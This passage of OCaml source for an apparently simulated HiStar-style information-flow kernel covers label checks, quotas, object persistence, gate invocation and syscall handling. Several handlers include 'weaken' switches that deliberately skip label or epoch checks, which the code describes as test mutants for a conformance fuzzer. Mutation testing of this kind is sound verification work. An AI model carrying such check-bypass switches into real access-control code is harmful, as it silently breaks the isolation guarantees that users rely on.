  (* Label-check elision state: [label_epoch] advances whenever any
     thread's label or clearance actually changes, invalidating every
     entry in [gate_summaries] at once (summaries of destroyed gates
     are evicted eagerly). *)
  mutable label_epoch : int;
  gate_summaries : (oid, gate_summary) Hashtbl.t;
  key : int64;
  (* Fork support: [snap] is the persistent oid → encoded-object map as
     of the last fork (or resume), and [snap_enc] caches each object's
     last encoding so an unchanged object costs one string comparison
     and zero tree writes at the next fork. *)
  mutable snap : string Bptree.t;
  snap_enc : (oid, string) Hashtbl.t;
}

let clock t = t.clock
let root t = t.root
let profile t = t.profile
let set_trace t f = t.trace <- f

(* ---------- object table ---------- *)

let find_obj k oid = Hashtbl.find_opt k.objects oid

let cur_thread k =
  match find_obj k k.current with
  | Some ({ body = Thr th; _ } as o) -> (o, th)
  | Some _ | None -> assert false

let emit_trace k ~op ~obj ~dir =
  match k.trace with
  | None -> ()
  | Some f ->
      let o, _ = cur_thread k in
      f
        {
          ev_thread = k.current;
          ev_thread_label = o.label;
          ev_op = op;
          ev_obj = obj.id;
          ev_obj_label = obj.label;
          ev_dir = dir;
        }

(* ---------- result helpers ---------- *)

let ( let* ) = Result.bind
let errf kind fmt = Printf.ksprintf (fun s -> Error (kind s)) fmt
let label_errf fmt = errf (fun s -> Label_check s) fmt
let not_found_f fmt = errf (fun s -> Not_found_ s) fmt
let invalid_f fmt = errf (fun s -> Invalid s) fmt
let quota_f fmt = errf (fun s -> Quota s) fmt

(* ---------- label checks ---------- *)

let cur_label k = (fst (cur_thread k)).label
let cur_clearance k = (snd (cur_thread k)).tclear

let check_observe k ~op obj =
  let lt = cur_label k in
  if Label_cache.observe k.label_cache ~thread:lt ~obj:obj.label then begin
    emit_trace k ~op ~obj ~dir:`Observe;
    Ok ()
  end
  else
    label_errf "%s: cannot observe %s (L_O=%s not ⊑ L_T^J, L_T=%s)" op
      obj.descrip (Label.to_string obj.label) (Label.to_string lt)

let check_modify k ~op obj =
  let lt = cur_label k in
  if obj.immut then Error (Immutable (op ^ ": object is immutable"))
  else if Label_cache.modify k.label_cache ~thread:lt ~obj:obj.label then begin
    emit_trace k ~op ~obj ~dir:`Modify;
    Ok ()
  end
  else
    label_errf "%s: cannot modify %s (need L_T ⊑ L_O ⊑ L_T^J; L_T=%s, L_O=%s)"
      op obj.descrip (Label.to_string lt) (Label.to_string obj.label)

(* ---------- flow-summary invalidation ---------- *)

(* Bump the epoch when a thread label or clearance changed; every live
   gate summary becomes stale at once. Counted only when there was
   something to invalidate, so the counter reads as "summaries
   actually discarded" events. *)
let invalidate_summaries k =
  k.label_epoch <- k.label_epoch + 1;
  if k.instrument && Hashtbl.length k.gate_summaries > 0 then
    Label_cache.count_summary_invalidation ()

(* All thread label/clearance writes funnel through these so no
   mutation can miss the epoch bump. *)
let set_thread_labels k o th ~label ~clearance =
  let changed =
    (not (Label.equal o.label label)) || not (Label.equal th.tclear clearance)
  in
  o.label <- label;
  th.tclear <- clearance;
  if changed then invalidate_summaries k

(* Resolve a container entry: read permission on the container, then the
   link must exist (⟨D,D⟩ names the container itself). *)
let resolve k ~op (ce : centry) =
  match find_obj k ce.container with
  | None -> not_found_f "%s: no container %Ld" op ce.container
  | Some d -> (
      match d.body with
      | Con c ->
          let* () = check_observe k ~op d in
          if Int64.equal ce.object_id ce.container then Ok d
          else if Hashtbl.mem c.children ce.object_id then
            match find_obj k ce.object_id with
            | Some o -> Ok o
            | None -> not_found_f "%s: dangling link %Ld" op ce.object_id
          else not_found_f "%s: %Ld not in container %Ld" op ce.object_id ce.container
      | Seg _ | Thr _ | Gat _ | Asp _ | Dev _ ->
          invalid_f "%s: %Ld is not a container" op ce.container)

(* Resolve a segment entry, honouring the reserved thread-local oid. *)
let resolve_segment k ~op (ce : centry) =
  if Int64.equal ce.object_id tls_oid then
    let _, th = cur_thread k in
    match find_obj k th.tls with
    | Some o -> Ok (o, `Tls)
    | None -> assert false
  else
    let* o = resolve k ~op ce in
    match o.body with
    | Seg _ -> Ok (o, `Plain)
    | Con _ | Thr _ | Gat _ | Asp _ | Dev _ ->
        invalid_f "%s: %Ld is not a segment" op ce.object_id

let as_container ~op o =
  match o.body with
  | Con c -> Ok c
  | Seg _ | Thr _ | Gat _ | Asp _ | Dev _ ->
      invalid_f "%s: %Ld is not a container" op o.id

(* ---------- quotas ---------- *)

let usage_of_body = function
  | Seg s -> Int64.add base_overhead (Int64.of_int (Bytes.length s.data))
  | Con _ | Thr _ | Gat _ | Asp _ | Dev _ -> base_overhead

let quota_avail o =
  if Int64.equal o.quota infinite_quota then Int64.max_int
  else Int64.sub o.quota o.usage

(* Saturating add: usage bookkeeping must never wrap, even in
   infinite-quota containers fed near-max_int object quotas. *)
let sat_add a b =
  let s = Int64.add a b in
  if Int64.compare b 0L > 0 && Int64.compare s a < 0 then Int64.max_int else s

(* Charge [amount] to container [d]; fails if it would exceed d's quota.
   The comparison is overflow-free: [usage + amount > quota] wraps for
   near-max_int amounts (letting a finite container over-commit), so we
   compare against the remaining headroom instead, relying on the
   invariant 0 ≤ usage ≤ quota for finite-quota containers. *)
let charge ~op d amount =
  if Int64.equal d.quota infinite_quota then begin
    d.usage <- sat_add d.usage amount;
    Ok ()
  end
  else if Int64.compare amount (Int64.sub d.quota d.usage) > 0 then
    quota_f "%s: container %s over quota" op d.descrip
  else begin
    d.usage <- Int64.add d.usage amount;
    Ok ()
  end

let uncharge d amount = d.usage <- Int64.sub d.usage amount

(* ---------- persistence mirroring ---------- *)

let store_delete k oid =
  match k.store with Some s -> Store.delete s ~oid | None -> ()

let encode_obj o =
  let e = Codec.Enc.create () in
  Codec.Enc.u8 e (kind_to_bit o.kind);
  Codec.Enc.i64 e o.id;
  Label.encode e o.label;
  Codec.Enc.str e o.descrip;
  Codec.Enc.i64 e o.quota;
  Codec.Enc.i64 e o.usage;
  Codec.Enc.bool e o.fixed_quota;
  Codec.Enc.bool e o.immut;
  Codec.Enc.str e o.metadata;
  Codec.Enc.u32 e o.refs;
  (match o.body with
  | Seg s -> Codec.Enc.str e (Bytes.to_string s.data)
  | Con c ->
      Codec.Enc.u32 e c.avoid;
      Codec.Enc.i64 e c.parent;
      Codec.Enc.u32 e (Hashtbl.length c.children);
      Hashtbl.iter
        (fun oid kind ->
          Codec.Enc.i64 e oid;
          Codec.Enc.u8 e (kind_to_bit kind))
        c.children
  | Thr th ->
      Label.encode e th.tclear;
      Codec.Enc.i64 e th.tls
  | Gat g ->
      Label.encode e g.gclear;
      Codec.Enc.bool e g.gonce
  | Asp a ->
      Codec.Enc.list e
        (fun e m ->
          Codec.Enc.i64 e m.va;
          Codec.Enc.i64 e m.seg.container;
          Codec.Enc.i64 e m.seg.object_id;
          Codec.Enc.int e m.offset;
          Codec.Enc.int e m.npages;
          Codec.Enc.bool e m.flags.read;
          Codec.Enc.bool e m.flags.write;
          Codec.Enc.bool e m.flags.exec)
        a.mappings
  | Dev d -> Codec.Enc.str e d.mac);
  Codec.Enc.to_string e

let kind_of_bit = function
  | 0 -> Segment
  | 1 -> Thread
  | 2 -> Address_space
  | 3 -> Gate
  | 4 -> Container
  | 5 -> Device
  | n -> invalid_arg (Printf.sprintf "kind_of_bit %d" n)

let decode_obj payload =
  let d = Codec.Dec.of_string payload in
  let kind = kind_of_bit (Codec.Dec.u8 d) in
  let id = Codec.Dec.i64 d in
  let label = Label.decode d in
  let descrip = Codec.Dec.str d in
  let quota = Codec.Dec.i64 d in
  let usage = Codec.Dec.i64 d in
  let fixed_quota = Codec.Dec.bool d in
  let immut = Codec.Dec.bool d in
  let metadata = Codec.Dec.str d in
  let refs = Codec.Dec.u32 d in
  let body =
    match kind with
    | Segment -> Seg { data = Bytes.of_string (Codec.Dec.str d) }
    | Container ->
        let avoid = Codec.Dec.u32 d in
        let parent = Codec.Dec.i64 d in
        let n = Codec.Dec.u32 d in
        let children = Hashtbl.create (max 4 n) in
        for _ = 1 to n do
          let oid = Codec.Dec.i64 d in
          let kind = kind_of_bit (Codec.Dec.u8 d) in
          Hashtbl.replace children oid kind
        done;
        Con { children; avoid; parent }
    | Thread ->
        let tclear = Label.decode d in
        let tls = Codec.Dec.i64 d in
        Thr
          {
            tclear;
            tls;
            tas = None;
            tstate = `Halted;
            next_run = None;
            parked = None;
            alerts = Queue.create ();
            return_gate = None;
          }
    | Gate ->
        let gclear = Label.decode d in
        let gonce = Codec.Dec.bool d in
        Gat { gclear; gentry = Entry_dead; gonce }
    | Address_space ->
        let mappings =
          Codec.Dec.list d (fun d ->
              let va = Codec.Dec.i64 d in
              let c = Codec.Dec.i64 d in
              let o = Codec.Dec.i64 d in
              let offset = Codec.Dec.int d in
              let npages = Codec.Dec.int d in
              let read = Codec.Dec.bool d in
              let write = Codec.Dec.bool d in
              let exec = Codec.Dec.bool d in
              { va; seg = centry c o; offset; npages; flags = { read; write; exec } })
        in
        Asp { mappings }
    | Device ->
        Dev { mac = Codec.Dec.str d; rx = Queue.create (); transmit = ignore }
  in
  { id; kind; label; descrip; quota; usage; fixed_quota; immut; metadata; refs; body }

(* ---------- allocation / deallocation ---------- *)

(* Skip oids already in use: after a crash the generator counter is
   restored from the last durable metadata record, so it may replay
   values already handed out to objects that reached the disk through a
   later sync barrier. *)
let next_oid k =
  let rec fresh () =
    let oid = Category_gen.next k.oidgen in
    if Hashtbl.mem k.objects oid then fresh () else oid
  in
  fresh ()

let rec destroy k o =
  Hashtbl.remove k.objects o.id;
  store_delete k o.id;
  match o.body with
  | Con c ->
      Hashtbl.iter
        (fun child_oid _ ->
          match find_obj k child_oid with
          | Some child ->
              child.refs <- child.refs - 1;
              if child.refs <= 0 then destroy k child
          | None -> ())
        c.children;
      Hashtbl.reset c.children
  | Thr th -> begin
      th.tstate <- `Halted;
      th.next_run <- None;
      th.parked <- None;
      match find_obj k th.tls with
      | Some tls -> destroy k tls
      | None -> ()
    end
  | Gat _ ->
      (* The gate's categories may now be garbage; its summary must not
         outlive it (a fresh object could reuse the oid). *)
      if Hashtbl.mem k.gate_summaries o.id then begin
        Hashtbl.remove k.gate_summaries o.id;
        if k.instrument then Label_cache.count_summary_invalidation ()
      end
  | Seg _ | Asp _ | Dev _ -> ()

let unlink k d_obj c child_oid =
  match Hashtbl.find_opt c.children child_oid with
  | None -> ()
  | Some _ ->
      Hashtbl.remove c.children child_oid;
      (match find_obj k child_oid with
      | Some child ->
          uncharge d_obj child.quota;
          child.refs <- child.refs - 1;
          if child.refs <= 0 then destroy k child
      | None -> ())

(* Creation common path: label validity, container write check,
   avoid-types, label range, quota charge. *)
let create_object k ~(spec : create_spec) ~kind ~clearance_check ~body =
  let lt = cur_label k in
  let ct = cur_clearance k in
  let* () =
    if not (Label.is_storable spec.label) then
      invalid_f "create %s: label contains J" (kind_to_string kind)
    else
      match kind with
      | Thread | Gate -> Ok ()
      | Segment | Address_space | Container | Device ->
          if Label.is_object_label spec.label then Ok ()
          else invalid_f "create %s: only threads and gates may own (⋆)"
              (kind_to_string kind)
  in
  let* d_obj =
    match find_obj k spec.container with
    | Some o -> Ok o
    | None -> not_found_f "create: no container %Ld" spec.container
  in
  let* c = as_container ~op:"create" d_obj in
  let* () = check_modify k ~op:"create(container)" d_obj in
  let* () =
    if c.avoid land (1 lsl kind_to_bit kind) <> 0 then
      Error (Avoid_type (kind_to_string kind ^ " forbidden in this container"))
    else Ok ()
  in
  let* () =
    (* L_T ⊑ L ⊑ C_T (for threads/gates, clearance_check refines this) *)
    if not (Label.leq lt spec.label) then
      label_errf "create: L_T=%s not ⊑ L=%s" (Label.to_string lt)
        (Label.to_string spec.label)
    else if not clearance_check && not (Label.leq spec.label ct) then
      label_errf "create: L=%s not ⊑ C_T=%s" (Label.to_string spec.label)
        (Label.to_string ct)
    else Ok ()
  in
  let initial_usage = usage_of_body body in
  let* () =
    if Int64.compare spec.quota initial_usage < 0 then
      quota_f "create: quota %Ld below initial usage %Ld" spec.quota
        initial_usage
    else Ok ()
  in
  let* () = charge ~op:"create" d_obj spec.quota in
  let id = next_oid k in
  let o =
    {
      id;
      kind;
      label = spec.label;
      descrip = spec.descrip;
      quota = spec.quota;
      usage = initial_usage;
      fixed_quota = false;
      immut = false;
      metadata = "";
      refs = 1;
      body;
    }
  in
  Hashtbl.replace k.objects id o;
  Hashtbl.replace c.children id kind;
  Ok o

(* ---------- scheduler ---------- *)

let enqueue k tid = Queue.push tid k.runq

let wake k tid resp =
  match find_obj k tid with
  | Some { body = Thr th; _ } -> (
      match (th.tstate, th.parked) with
      | `Blocked _, Some kont ->
          th.parked <- None;
          th.tstate <- `Ready;
          th.next_run <- Some (Resume (kont, resp));
          enqueue k tid
      | _ -> ())
  | Some _ | None -> ()

(* futex queues live on the segment objects via a per-kernel side
   table, keyed by (segment oid, offset) *)
let futex_key seg_oid offset =
  Int64.add (Int64.mul seg_oid 1_000_003L) (Int64.of_int offset)

let futex_queue k key =
  match Hashtbl.find_opt k.futexq key with
  | Some q -> q
  | None ->
      let q = Queue.create () in
      Hashtbl.replace k.futexq key q;
      q

(* ---------- syscall implementation ---------- *)

let meta_record k =
  let e = Codec.Enc.create () in
  Codec.Enc.i64 e k.root;
  Codec.Enc.i64 e (Category_gen.counter k.oidgen);
  Codec.Enc.i64 e (Category_gen.counter k.catgen);
  Codec.Enc.i64 e k.key;
  Codec.Enc.to_string e

(* Whole-system snapshot: serialize every object plus the kernel
   metadata record (root, generators) so that recovery can rebuild. *)
let do_checkpoint k =
  match k.store with
  | None -> ()
  | Some s ->
      Hashtbl.iter (fun oid o -> Store.put s ~oid (encode_obj o)) k.objects;
      Store.put s ~oid:meta_oid (meta_record k);
      Store.checkpoint s

type action =
  | A_resp of resp
  | A_block of wait_reason
  | A_jump of (unit -> unit)
  | A_resume of kont * resp
  | A_halt

let ok_resp r = Ok (A_resp r)

let read_i64_at data off =
  if off < 0 || off + 8 > Bytes.length data then None
  else Some (Bytes.get_int64_le data off)

let segment_read_impl k (ce : centry) off len =
  let* o, kind_ = resolve_segment k ~op:"segment_read" ce in
  let* () =
    match kind_ with
    | `Tls -> Ok ()
    | `Plain ->
        if k.weaken = Some Weaken_segment_read_taint then Ok ()
        else check_observe k ~op:"segment_read" o
  in
  match o.body with
  | Seg s ->
      let n = Bytes.length s.data in
      let len = if len < 0 then n - off else len in
      if off < 0 || len < 0 || off + len > n then
        invalid_f "segment_read: range [%d,%d) outside length %d" off (off + len) n
      else ok_resp (R_bytes (Bytes.sub_string s.data off len))
  | Con _ | Thr _ | Gat _ | Asp _ | Dev _ -> assert false

let segment_write_impl k (ce : centry) off data =
  let* o, kind_ = resolve_segment k ~op:"segment_write" ce in
  let* () =
    match kind_ with `Tls -> Ok () | `Plain -> check_modify k ~op:"segment_write" o
  in
  match o.body with
  | Seg s ->
      let n = Bytes.length s.data in
      if off < 0 || off + String.length data > n then
        invalid_f "segment_write: range [%d,%d) outside length %d" off
          (off + String.length data) n
      else begin
        Bytes.blit_string data 0 s.data off (String.length data);
        ok_resp R_unit
      end
  | Con _ | Thr _ | Gat _ | Asp _ | Dev _ -> assert false

let segment_resize_impl k (ce : centry) len =
  let* o, kind_ = resolve_segment k ~op:"segment_resize" ce in
  let* () =
    match kind_ with `Tls -> Ok () | `Plain -> check_modify k ~op:"segment_resize" o
  in
  match o.body with
  | Seg s ->
      if len < 0 then invalid_f "segment_resize: negative length"
      else begin
        let new_usage = Int64.add base_overhead (Int64.of_int len) in
        if
          (not (Int64.equal o.quota infinite_quota))
          && Int64.compare new_usage o.quota > 0
        then quota_f "segment_resize: length %d exceeds quota %Ld" len o.quota
        else begin
          let old = s.data in
          let fresh = Bytes.make len '\000' in
          Bytes.blit old 0 fresh 0 (min (Bytes.length old) len);
          s.data <- fresh;
          o.usage <- new_usage;
          ok_resp R_unit
        end
      end
  | Con _ | Thr _ | Gat _ | Asp _ | Dev _ -> assert false

let mk_tls k =
  let id = next_oid k in
  (* one page initially, like the paper, but with headroom to grow:
     gate arguments and RPC replies travel through this segment *)
  let o =
    {
      id;
      kind = Segment;
      label = Label.make Level.L1;
      descrip = "thread-local segment";
      quota = Int64.add base_overhead 2_097_152L;
      usage = Int64.add base_overhead 4096L;
      fixed_quota = true;
      immut = false;
      metadata = "";
      refs = 1;
      body = Seg { data = Bytes.make 4096 '\000' };
    }
  in
  Hashtbl.replace k.objects id o;
  id

let thread_create_impl k ~(spec : create_spec) ~clearance ~entry =
  let lt = cur_label k in
  let ct = cur_clearance k in
  (* L_T ⊑ L_T' ⊑ C_T' ⊑ C_T *)
  let* () =
    if
      Label.leq lt spec.label
      && Label.leq spec.label clearance
      && Label.leq clearance ct
    then Ok ()
    else
      label_errf "thread_create: need L_T ⊑ L' ⊑ C' ⊑ C_T (L'=%s C'=%s)"
        (Label.to_string spec.label)
        (Label.to_string clearance)
  in
  let tls = mk_tls k in
  let body =
    Thr
      {
        tclear = clearance;
        tls;
        tas = None;
        tstate = `Ready;
        next_run = Some (Start entry);
        parked = None;
        alerts = Queue.create ();
        return_gate = None;
      }
  in
  let* o = create_object k ~spec ~kind:Thread ~clearance_check:true ~body in
  enqueue k o.id;
  ok_resp (R_oid o.id)

let gate_create_impl k ~(spec : create_spec) ~clearance ~entry ~one_shot =
  let lt = cur_label k in
  let ct = cur_clearance k in
  (* §3.5 states L_T ⊑ L_G ⊑ C_G ⊑ C_T, but the paper's own examples
     violate the literal rule: the §5.6 signal gate breaks L_G ⊑ C_G,
     and the §6.2 check gate ({ur⋆,uw⋆,x⋆,pir3,1}, invocable by
     pir3-tainted login) needs both a label and a clearance above the
     creator's clearance in pir. We therefore require only
     L_T ⊑ L_G (privilege grants bounded by the creator; taint in a
     gate label merely taints enterers and a gate stores no observable
     data) and C_G ⊑ C_T ⊔ L_T^J ⊔ L_G (clearance raised only in
     categories the creator owns or the gate label already taints).
     This admits every configuration in the paper. See DESIGN.md. *)
  let* () =
    let bound = Label.lub (Label.lub ct (Label.raise_j lt)) spec.label in
    if not (Label.leq clearance bound) then
      label_errf "gate_create: C_G=%s not ⊑ C_T ⊔ L_T^J ⊔ L_G"
        (Label.to_string clearance)
    else Ok ()
  in
  let body = Gat { gclear = clearance; gentry = entry; gonce = one_shot } in
  let* o = create_object k ~spec ~kind:Gate ~clearance_check:true ~body in
  ok_resp (R_oid o.id)

(* A one-shot service gate reaps itself on first successful invocation,
   sharing the return-gate discipline: unlink from the naming container
   so repeated scoped excursions do not exhaust its quota. *)
let reap_one_shot k (gate : centry) gate_obj g =
  if g.gonce then
    match find_obj k gate.container with
    | Some ({ body = Con c; _ } as d_obj) -> unlink k d_obj c gate_obj.id
    | Some _ | None -> ()

(* Gate invocation checks (§3.5):
   L_T ⊑ C_G,  L_T ⊑ L_V,  (L_T^J ⊔ L_G^J)^⋆ ⊑ L_R ⊑ C_R ⊑ (C_T ⊔ C_G).

   With elision on, a valid flow summary answers without running the
   algebra: the gate's label and clearance are immutable, so once the
   thread (s_thread), its label epoch (s_epoch) and the requested
   triple (interned pointer comparison) match, every input to the five
   checks is identical to the summarized run. [Weaken_stale_summary]
   drops the epoch/thread validation — the test mutant the conformance
   fuzzer must catch. *)
let check_gate_invoke k gate_obj g ~requested_label ~requested_clearance
    ~verify_label =
  let summary =
    if not k.elide then None
    else
      match Hashtbl.find_opt k.gate_summaries gate_obj.id with
      | Some s
        when (let lr, cr, lv = s.s_req in
              Label.equal lr requested_label
              && Label.equal cr requested_clearance
              && Label.equal lv verify_label)
             && (k.weaken = Some Weaken_stale_summary
                || (s.s_epoch = k.label_epoch
                   && Int64.equal s.s_thread k.current)) ->
          Some s.s_result
      | Some _ | None -> None
  in
  match summary with
  | Some result ->
      if k.instrument then
        Label_cache.count_elided ~allowed:(Result.is_ok result);
      result
  | None ->
      let lt = cur_label k in
      let ct = cur_clearance k in
      let lg = gate_obj.label in
      let result =
        if not (Label.leq lt g.gclear) then
          label_errf "gate: L_T=%s not ⊑ C_G=%s" (Label.to_string lt)
            (Label.to_string g.gclear)
        else if not (Label.leq lt verify_label) then
          label_errf "gate: L_T not ⊑ L_V=%s" (Label.to_string verify_label)
        else
          let floor = Label.lower_star (Label.lub (Label.raise_j lt) (Label.raise_j lg)) in
          if
            (not (Label.leq floor requested_label))
            && k.weaken <> Some Weaken_gate_star_grant
          then
            label_errf "gate: floor %s not ⊑ L_R=%s" (Label.to_string floor)
              (Label.to_string requested_label)
          else if not (Label.leq requested_label requested_clearance) then
            label_errf "gate: L_R not ⊑ C_R"
          else if not (Label.leq requested_clearance (Label.lub ct g.gclear)) then
            label_errf "gate: C_R=%s not ⊑ C_T ⊔ C_G"
              (Label.to_string requested_clearance)
          else Ok ()
      in
      if k.instrument then
        Label_cache.count_uncached_check ~allowed:(Result.is_ok result);
      if k.elide then
        Hashtbl.replace k.gate_summaries gate_obj.id
          {
            s_epoch = k.label_epoch;
            s_thread = k.current;
            s_req = (requested_label, requested_clearance, verify_label);
            s_result = result;
          };
      result

let resolve_gate k ~op ce =
  let* o = resolve k ~op ce in
  match o.body with
  | Gat g -> Ok (o, g)
  | Seg _ | Con _ | Thr _ | Asp _ | Dev _ ->
      invalid_f "%s: %Ld is not a gate" op ce.object_id

let gate_enter_impl k ~gate ~requested_label ~requested_clearance ~verify_label
    =
  let* gate_obj, g = resolve_gate k ~op:"gate_enter" gate in
  let* () =
    check_gate_invoke k gate_obj g ~requested_label ~requested_clearance
      ~verify_label
  in
  let o, th = cur_thread k in
  set_thread_labels k o th ~label:requested_label
    ~clearance:requested_clearance;
  match g.gentry with
  | Entry_fn f ->
      reap_one_shot k gate gate_obj g;
      Ok (A_jump f)
  | Entry_resume slot -> (
      match !slot with
      | Some (kont, prev_return_gate) ->
          slot := None;
          th.return_gate <- prev_return_gate;
          (* a return gate is one-shot: reap it so long RPC sequences
             do not exhaust the session container's quota *)
          (match find_obj k gate.container with
          | Some ({ body = Con c; _ } as d_obj) ->
              unlink k d_obj c gate_obj.id
          | Some _ | None -> ());
          Ok (A_resume (kont, R_unit))
      | None -> invalid_f "gate_enter: return gate already used")
  | Entry_dead -> invalid_f "gate_enter: gate has no runnable entry (recovered)"

let gate_call_impl k kont ~gate ~requested_label ~requested_clearance
    ~verify_label ~(return_spec : create_spec) ~return_clearance =
  let* gate_obj, g = resolve_gate k ~op:"gate_call" gate in
  let* () =
    check_gate_invoke k gate_obj g ~requested_label ~requested_clearance
      ~verify_label
  in
  (* Create the return gate *before* dropping privileges: its label is
     the caller's current label (regaining it on return), per §5.5. *)
  let _, th0 = cur_thread k in
  let slot = ref (Some (kont, th0.return_gate)) in
  let lt = cur_label k in
  let ct = cur_clearance k in
  let* () =
    if not (Label.leq return_spec.label ct) then
      label_errf "gate_call: return gate label not ⊑ C_T"
    else if not (Label.leq return_clearance (Label.lub ct (Label.raise_j lt)))
    then label_errf "gate_call: return clearance not ⊑ C_T ⊔ L_T^J"
    else Ok ()
  in
  let* ret_obj =
    create_object k ~spec:return_spec ~kind:Gate ~clearance_check:true
      ~body:
        (Gat { gclear = return_clearance; gentry = Entry_resume slot; gonce = false })
  in
  let o, th = cur_thread k in
  th.return_gate <- Some (centry return_spec.container ret_obj.id);
  set_thread_labels k o th ~label:requested_label
    ~clearance:requested_clearance;
  match g.gentry with
  | Entry_fn f ->
      reap_one_shot k gate gate_obj g;
      Ok (A_jump f)
  | Entry_resume _ | Entry_dead ->
      invalid_f "gate_call: target must be a service gate"

let quota_move_impl k ~container ~target ~nbytes =
  let* d_obj =
    match find_obj k container with
    | Some o -> Ok o
    | None -> not_found_f "quota_move: no container %Ld" container
  in
  let* c = as_container ~op:"quota_move" d_obj in
  let* () = check_modify k ~op:"quota_move(container)" d_obj in
  let* o =
    if Hashtbl.mem c.children target then
      match find_obj k target with
      | Some o -> Ok o
      | None -> not_found_f "quota_move: dangling %Ld" target
    else not_found_f "quota_move: %Ld not in container %Ld" target container
  in
  let lt = cur_label k in
  let ct = cur_clearance k in
  (* L_T ⊑ L_O ⊑ C_T, plus L_O ⊑ L_T^J when n < 0 because failure
     conveys information about O back to T (§3.3). *)
  let* () =
    if Label.leq lt o.label && Label.leq o.label ct then Ok ()
    else label_errf "quota_move: need L_T ⊑ L_O ⊑ C_T"
  in
  let* () =
    if Int64.compare nbytes 0L < 0 then
      if not (Label.can_observe ~thread:lt ~obj:o.label) then
        label_errf "quota_move: shrinking requires L_O ⊑ L_T^J"
      else if Int64.compare (quota_avail o) (Int64.neg nbytes) < 0 then
        quota_f "quota_move: object has fewer than %Ld spare bytes"
          (Int64.neg nbytes)
      else Ok ()
    else Ok ()
  in
  let* () =
    if o.fixed_quota then Error (Immutable "quota_move: fixed-quota object")
    else Ok ()
  in
  (* Overflow guard: moving bytes out of an infinite-quota container
     (where [charge] always succeeds) must not wrap the target's quota. *)
  let* () =
    if
      Int64.compare nbytes 0L > 0
      && Int64.compare nbytes (Int64.sub Int64.max_int o.quota) > 0
    then quota_f "quota_move: target quota would overflow"
    else Ok ()
  in
  let* () = charge ~op:"quota_move" d_obj nbytes in
  o.quota <- Int64.add o.quota nbytes;
  ok_resp R_unit

let unref_impl k (ce : centry) =
  let* d_obj =
    match find_obj k ce.container with
    | Some o -> Ok o
    | None -> not_found_f "unref: no container %Ld" ce.container
  in
  let* c = as_container ~op:"unref" d_obj in
  let* () =
    if k.weaken = Some Weaken_unref_check then Ok ()
    else check_modify k ~op:"unref(container)" d_obj
  in
  if Int64.equal ce.object_id ce.container then
    invalid_f "unref: container cannot unlink itself"
  else if Hashtbl.mem c.children ce.object_id then begin
    unlink k d_obj c ce.object_id;
    ok_resp R_unit
  end
  else not_found_f "unref: %Ld not in container %Ld" ce.object_id ce.container

let container_link_impl k ~container ~target =
  (* Hard link: write the destination container, clearance covers the
     object's label (L_S ⊑ C_T), and the object's quota must be fixed. *)
  let* o = resolve k ~op:"container_link" target in
  let* d_obj =
    match find_obj k container with
    | Some d -> Ok d
    | None -> not_found_f "container_link: no container %Ld" container
  in
  let* c = as_container ~op:"container_link" d_obj in
  let* () = check_modify k ~op:"container_link(container)" d_obj in
  let ct = cur_clearance k in
  let* () =
    if Label.leq o.label ct then Ok ()
    else label_errf "container_link: L_S=%s not ⊑ C_T" (Label.to_string o.label)
  in
  let* () =
    match o.body with
    | Con _ -> invalid_f "container_link: containers have a single parent"
    | Seg _ | Thr _ | Gat _ | Asp _ | Dev _ -> Ok ()
  in
  let* () =
    if o.fixed_quota then Ok ()
    else invalid_f "container_link: object quota not fixed"
  in
  if Hashtbl.mem c.children o.id then invalid_f "container_link: already linked"
  else
    (* double-charging (§3.3): the full quota counts in every container *)
    let* () = charge ~op:"container_link" d_obj o.quota in
    Hashtbl.replace c.children o.id o.kind;
    o.refs <- o.refs + 1;
    ok_resp R_unit

let thread_alert_impl k (ce : centry) alert =
  let* o = resolve k ~op:"thread_alert" ce in
  match o.body with
  | Thr target ->
      let lt = cur_label k in
      (* write T's address space, and observe T (§3.4) *)
      let* () =
        if Label.can_observe ~thread:lt ~obj:o.label then Ok ()
        else label_errf "thread_alert: cannot observe target thread"
      in
      let* () =
        match target.tas with
        | None -> invalid_f "thread_alert: target has no address space"
        | Some as_ce -> (
            match find_obj k as_ce.object_id with
            | Some as_obj -> check_modify k ~op:"thread_alert(as)" as_obj
            | None -> not_found_f "thread_alert: dangling address space")
      in
      Queue.push alert target.alerts;
      (match target.tstate with
      | `Blocked W_alert -> wake k o.id (R_alert (Queue.pop target.alerts))
      | `Ready | `Running | `Blocked _ | `Halted -> ());
      ok_resp R_unit
  | Seg _ | Con _ | Gat _ | Asp _ | Dev _ ->
      invalid_f "thread_alert: %Ld is not a thread" ce.object_id

let resolve_device k ~op (ce : centry) =
  let* o = resolve k ~op ce in
  match o.body with
  | Dev d -> Ok (o, d)
  | Seg _ | Con _ | Thr _ | Gat _ | Asp _ ->
      invalid_f "%s: %Ld is not a device" op ce.object_id

let handle_syscall k kont req : action =
  let result =
    match req with
    | Cat_create ->
        let c = Category.of_int64 (Category_gen.next k.catgen) in
        let o, th = cur_thread k in
        set_thread_labels k o th
          ~label:(Label.set o.label c Level.Star)
          ~clearance:(Label.set th.tclear c Level.L3);
        ok_resp (R_cat c)
    | Self_get_id -> ok_resp (R_oid k.current)
    | Self_get_label -> ok_resp (R_label (cur_label k))
    | Self_get_clearance -> ok_resp (R_label (cur_clearance k))
    | Self_set_label l ->
        let o, th = cur_thread k in
        if Label.leq o.label l && Label.leq l th.tclear then begin
          set_thread_labels k o th ~label:l ~clearance:th.tclear;
          ok_resp R_unit
        end
        else
          label_errf "self_set_label: need L_T ⊑ L ⊑ C_T (L=%s)"
            (Label.to_string l)
    | Self_set_clearance c ->
        let o, th = cur_thread k in
        let bound = Label.lub th.tclear (Label.raise_j o.label) in
        if Label.leq o.label c && Label.leq c bound then begin
          set_thread_labels k o th ~label:o.label ~clearance:c;
          ok_resp R_unit
        end
        else label_errf "self_set_clearance: need L_T ⊑ C ⊑ C_T ⊔ L_T^J"
    | Self_set_as ce ->
        let* o = resolve k ~op:"self_set_as" ce in
        let* () =
          match o.body with
          | Asp _ -> Ok ()
          | Seg _ | Con _ | Thr _ | Gat _ | Dev _ ->
              invalid_f "self_set_as: not an address space"
        in
        let* () = check_observe k ~op:"self_set_as" o in
        let _, th = cur_thread k in
        th.tas <- Some ce;
        ok_resp R_unit
    | Self_get_as ->
        let _, th = cur_thread k in
        ok_resp (R_centry_opt th.tas)
    | Self_get_return_gate ->
        let _, th = cur_thread k in
        ok_resp (R_centry_opt th.return_gate)
    | Self_halt -> Ok A_halt
    | Self_yield -> ok_resp R_unit
    | Self_usleep us ->
        if us < 0 then invalid_f "self_usleep: negative"
        else begin
          Sim_clock.advance_us k.clock (float_of_int us);
          ok_resp R_unit
        end
    | Self_sleep_until deadline ->
